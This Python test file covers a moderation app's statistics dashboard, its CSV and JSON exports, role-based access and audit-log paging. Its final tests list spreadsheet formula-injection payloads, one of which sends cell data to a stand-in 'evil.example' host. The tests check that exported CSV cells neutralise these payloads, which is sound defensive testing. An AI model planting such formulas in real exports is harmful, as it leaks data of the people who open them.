"""Team-lead stats checked against a hand-built history, the CSV and JSON against the page, and the
audit log."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import update

from tests.factories import PASSWORD, csrf_token
from webapp.models import APPROVED, PENDING, REJECTED, Article, AuditEvent, Topic, article_topics, db
from webapp.services import rollups, stats
from webapp.web import reports

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
STALE = timedelta(hours=48)


def at(day: int, hour: int, minute: int = 0, second: int = 0, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, minute, second, tzinfo=UTC)


@pytest.fixture
def history(app, make_user):
    """Seven articles whose every figure is worked out by hand in the tests below."""
    ana, ben = make_user("ana"), make_user("ben")
    make_user("lena", "lead")
    topics = {name: Topic(name=name) for name in ("AI", "Vision")}
    db.session.add_all(topics.values())
    made = {}

    def article(
        name, provider, imported, decided=None, by=None, status=PENDING, heat=-1, names=(), published=None
    ):
        row = Article(
            identity=name,
            source_name=f"{name}.md",
            content_hash=name,
            source_text="---\n---\n",
            category="news",
            title=f"Story {name}",
            published_at=published or imported - timedelta(hours=1),
            web_url=f"https://e.example/{name}",
            provider_name=provider,
            key_order=[],
            body="",
            status=status,
            heat=heat,
            imported_at=imported,
            updated_at=imported,
            decided_at=decided,
            decided_by_id=by.id if by else None,
        )
        db.session.add(row)
        db.session.flush()
        for position, topic in enumerate(names):
            db.session.execute(
                article_topics.insert().values(
                    article_id=row.id, topic_id=topics[topic].id, position=position
                )
            )
        made[name] = row
        return row

    article("a1", "P1", at(8, 10), at(8, 10, 10), ana, APPROVED, 50, ["AI"])
    article("a2", "P1", at(8, 23), at(8, 23, 59, 59), ben, REJECTED)
    article("a3", "P2", at(8, 23, 30), at(9, 0, 0, 1), ben, APPROVED, 120, ["AI", "Vision"])
    article("a4", "P2", at(6, 8), at(10, 9), ana, APPROVED)
    article(
        "a8", "P2", at(1, 8, month=2), at(1, 9, month=2), ben, APPROVED, 59
    )  # shares a heat bucket with a1
    article("a5", "P1", at(10, 11), published=at(7, 9))
    article("a6", "P3", at(9, 12), published=at(9, 11), names=["AI"])
    article("a7", "P1", at(19, 9, month=2), at(20, 9, month=2), ana, APPROVED)
    db.session.add(
        AuditEvent(
            created_at=at(9, 8),
            actor_id=ana.id,
            action="merge",
            article_id=made["a3"].id,
            before={},
            after={},
        )
    )
    db.session.commit()
    rollups.rebuild()
    return made


def board(**args):
    """The dashboard from the rollups, checked against the full aggregation."""
    filters, errors = stats.parse_filters(args)
    assert errors == {}
    summed = rollups.dashboard(filters, NOW, STALE)
    assert summed == stats.dashboard(filters, NOW, STALE)
    return summed


def test_headline_figures_for_seven_days(history):
    figures = board(period="7d").figures
    assert figures == {
        "decided": 4,
        "approved": 3,
        "rejected": 1,
        "approval_rate": 0.75,
        "pending_now": 2,
        "stale_pending_now": 1,
        "oldest_pending_seconds": 86400,
        # Times to decision 600, 1801, 3599 and 349200 s: nearest-rank median the 2nd, 90th percentile
        # the 4th.
        "median_seconds_to_decision": 1801,
        "p90_seconds_to_decision": 349200,
        "merges": 1,
    }


def test_decisions_per_day_include_empty_days_and_split_at_midnight_utc(history):
    per_day = board(period="7d").per_day
    assert [row["day"] for row in per_day] == [f"2026-03-{day:02}" for day in range(4, 11)]
    assert {
        row["day"]: (row["approved"], row["rejected"])
        for row in per_day
        if row["approved"] or row["rejected"]
    } == {
        "2026-03-08": (1, 1),
        "2026-03-09": (1, 0),
        "2026-03-10": (1, 0),
    }


def test_a_custom_day_counts_what_was_decided_on_it_in_utc(history):
    one_day = board(period="custom", **{"from": "2026-03-09", "to": "2026-03-09"})
    assert (one_day.start, one_day.end) == (at(9, 0), at(10, 0))
    assert one_day.figures["decided"] == 1 and one_day.per_day == [
        {"day": "2026-03-09", "approved": 1, "rejected": 0}
    ]
    assert board(period="today").figures["decided"] == 1


def test_per_moderator_backlog_and_distributions(history):
    result = board(period="7d")
    assert result.per_moderator == [
        {"moderator": "ana", "approved": 2, "rejected": 0, "decided": 2, "approval_rate": 1.0},
        {"moderator": "ben", "approved": 1, "rejected": 1, "decided": 2, "approval_rate": 0.5},
    ]
    assert [row["pending"] for row in result.backlog] == [0, 0, 1, 1, 2, 2, 2]
    times = {row["bucket"]: row["count"] for row in result.time_to_decision if row["count"]}
    assert times == {"10–30 min": 1, "30–60 min": 2, "2–7 d": 1}
    heat = {row["bucket"]: row["count"] for row in result.heat if row["count"]}
    assert heat == {"not set": 1, "40–59": 1, "120–139": 1}
    assert result.by_topic == [{"name": "AI", "count": 2}, {"name": "Vision", "count": 1}]
    assert result.by_provider == [{"name": "P2", "count": 2}, {"name": "P1", "count": 1}]
    assert result.per_outlet == [
        {"outlet": "P1", "decided": 2, "approval_rate": 0.5, "median_seconds_to_decision": 600},
        {"outlet": "P2", "decided": 2, "approval_rate": 1.0, "median_seconds_to_decision": 1801},
    ]


def test_filters_combine(history):
    ben = board(period="7d", moderator="ben").figures
    assert (ben["decided"], ben["approved"], ben["merges"]) == (2, 1, 0)
    assert board(period="7d", topic="AI").figures["decided"] == 2
    assert board(period="7d", topic="AI", moderator="ana").figures["decided"] == 1
    assert board(period="7d", provider="P2", topic="Vision").figures["decided"] == 1
    assert board(period="7d", provider="P1").figures["pending_now"] == 1
    assert board(period="30d").figures["decided"] == 5
    wide = board(period="custom", **{"from": "2026-02-01", "to": "2026-03-10"})
    assert wide.figures["decided"] == 6
    assert {row["bucket"]: row["count"] for row in wide.heat if row["count"]} == {
        "not set": 2,
        "40–59": 2,
        "120–139": 1,
    }


@pytest.mark.parametrize(
    "args, field, message",
    [
        ({"period": "year"}, "period", "Period must be one of today, 7d, 30d, custom."),
        (
            {"period": "custom", "from": "2026-03-40", "to": "2026-03-09"},
            "from",
            "From: '2026-03-40' is not a date like 2023-10-19.",
        ),
        ({"period": "custom", "to": "2026-03-09"}, "from", "From: a date like 2023-10-19 is needed."),
        (
            {"period": "custom", "from": "2026-03-09", "to": "2026-03-01"},
            "to",
            "To: must be on or after From.",
        ),
    ],
)
def test_bad_filters_are_named(args, field, message):
    _, errors = stats.parse_filters(args)
    assert message in errors[field]


@pytest.fixture
def lead(client, login, history, monkeypatch):
    monkeypatch.setattr(reports, "utcnow", lambda: NOW)
    client.post("/login", data={"username": "lena", "password": PASSWORD, "csrf_token": csrf_token(client)})
    return client


def test_page_json_and_csv_hold_the_same_figures(lead):
    query = "?period=7d&moderator=ben"
    page = BeautifulSoup(lead.get("/stats" + query).get_data(as_text=True), "html.parser")
    shown = {
        div.dt.get_text(strip=True): div.dd.get_text(strip=True)
        for div in page.select(".headline-figures div")
    }
    data = lead.get("/stats.json" + query).get_json()
    assert data["filters"] == {"period": "7d", "moderator": "ben"}
    assert shown["Decided"] == str(data["figures"]["decided"]) == "2"
    # Two decisions are too few for a rate to stand alone: it carries their count.
    assert shown["Approval rate"] == "50.0%2 decisions" and data["figures"]["approval_rate"] == 0.5
    assert (
        shown["Median time to decision"] == "30 min" and data["figures"]["median_seconds_to_decision"] == 1801
    )
    response = lead.get("/stats.csv" + query)
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    figures = {row[1]: row[2] for row in rows if row and row[0] == "figures"}
    assert figures == {name: "" if value is None else str(value) for name, value in data["figures"].items()}
    per_day = [row for row in rows if row and row[0] == "decisions per day"][1:]
    assert [[row[1], int(row[2]), int(row[3])] for row in per_day] == [
        [d["day"], d["approved"], d["rejected"]] for d in data["per_day"]
    ]


def test_htmx_gets_the_board_only_and_charts_have_labels_and_tables(lead):
    fragment = BeautifulSoup(
        lead.get("/stats?period=30d", headers={"HX-Request": "true"}).get_data(as_text=True), "html.parser"
    )
    assert fragment.find("html") is None and fragment.find(id="stats-board")
    figures = fragment.select("figure.chart")
    assert [f.figcaption.get_text(strip=True) for f in figures] == [
        "Decisions per day",
        "Decisions per moderator",
        "Pending at the end of each day",
        "Time from import to decision",
        "Heat of approved articles",
        "Approved by topic",
        "Approved by provider",
        "Approval rate of the busiest outlets",
    ]
    per_day = figures[0]
    assert per_day.find("svg", class_="chart-svg")["role"] == "img"
    assert {t.get_text() for t in per_day.select("text.axis-label")} == {"Day (UTC)", "Decisions"}
    assert [li.get_text(strip=True) for li in per_day.select(".legend li")] == ["Approved", "Rejected"]
    assert len(per_day.select("tbody tr")) == 30


def test_filter_menus_list_every_user_and_topic_sorted(lead):
    for path in ("/stats", "/audit"):
        page = BeautifulSoup(lead.get(path).get_data(as_text=True), "html.parser")
        moderators = page.find("select", attrs={"name": "moderator"}).find_all("option")
        assert [option.get_text() for option in moderators] == ["Everyone", "ana", "ben", "lena"]
    page = BeautifulSoup(lead.get("/stats").get_data(as_text=True), "html.parser")
    topics = page.find("select", attrs={"name": "topic"}).find_all("option")
    assert [option.get_text() for option in topics] == ["Any", "AI", "Vision"]


def test_bad_filters_answer_422_with_the_message(lead):
    response = lead.get("/stats?period=custom&from=nope&to=2026-03-01")
    assert response.status_code == 422 and "From: &#39;nope&#39; is not a date" in response.get_data(
        as_text=True
    )
    assert lead.get("/stats.json?period=year").status_code == 422
    assert lead.get("/stats.json?period=year").get_json() == {
        "errors": {"period": "Period must be one of today, 7d, 30d, custom."}
    }


@pytest.mark.parametrize("path", ["/stats", "/stats.json", "/stats.csv", "/audit"])
@pytest.mark.parametrize("role, expected", [(None, 302), ("moderator", 403), ("lead", 200), ("admin", 200)])
def test_lead_pages_by_role(client, login, path, role, expected):
    if role:
        login("someone", role)
    assert client.get(path).status_code == expected


def test_audit_log_newest_first_filtered_and_paged(app, lead, history, monkeypatch):
    from webapp.services import audit_log

    ana = history["a1"].decided_by_id
    for minute in range(5):
        db.session.add(
            AuditEvent(
                created_at=at(10, 10, minute),
                actor_id=ana,
                action="heat",
                article_id=history["a1"].id,
                before={"heat": minute},
                after={"heat": minute + 1},
            )
        )
    db.session.commit()
    monkeypatch.setattr(audit_log, "PAGE_SIZE", 2)
    first = BeautifulSoup(lead.get("/audit?action=heat").get_data(as_text=True), "html.parser")
    rows = first.select("#audit-rows tr:not(#audit-more)")
    assert [row.find_all("td")[4].get_text(strip=True) for row in rows] == ["heat 4 → 5", "heat 3 → 4"]
    assert rows[0].find("a")["href"] == f"/articles/{history['a1'].id}"
    seen = [row.find_all("td")[4].get_text(strip=True) for row in rows]
    more = first.find(id="audit-more")
    while more:
        page = BeautifulSoup(
            lead.get(more["hx-get"], headers={"HX-Request": "true"}).get_data(as_text=True), "html.parser"
        )
        seen += [row.find_all("td")[4].get_text(strip=True) for row in page.select("tr:not(#audit-more)")]
        more = page.find(id="audit-more")
    assert seen == [f"heat {n} → {n + 1}" for n in range(4, -1, -1)]
    merges = BeautifulSoup(
        lead.get("/audit?moderator=ana&action=merge&from=2026-03-09&to=2026-03-09").get_data(as_text=True),
        "html.parser",
    )
    assert len(merges.select("#audit-rows tr")) == 1
    assert lead.get("/audit?after=garbage").status_code == 400
    assert lead.get("/audit?action=explode").status_code == 422


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+2", "@SUM(A1)", "+1", "-2+3", "\tx", "\rx"]


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers():
    board = stats.Dashboard(
        stats.StatsFilters(),
        NOW,
        NOW,
        figures={"decided": 3, "change": -2, "rate": -0.5},
        by_topic=[{"name": name, "count": 1} for name in FORMULAS],
    )
    rows = stats.csv_rows(board)
    topics = [row[1] for row in rows if row and row[0] == "approved by topic"][1:]
    assert topics == ["'" + name for name in FORMULAS]
    assert ["figures", "change", -2] in rows and ["figures", "rate", -0.5] in rows


def test_the_stats_csv_quotes_a_provider_named_like_a_formula(lead):
    db.session.execute(update(Article).values(provider_name=FORMULAS[0]))
    db.session.commit()
    rollups.rebuild()
    rows = list(csv.reader(io.StringIO(lead.get("/stats.csv?period=30d").get_data(as_text=True))))
    providers = [row[1] for row in rows if row and row[0] == "approved by provider"][1:]
    assert providers == ["'" + FORMULAS[0]]
    assert not any(cell.startswith(("=", "@", "+")) for row in rows for cell in row)
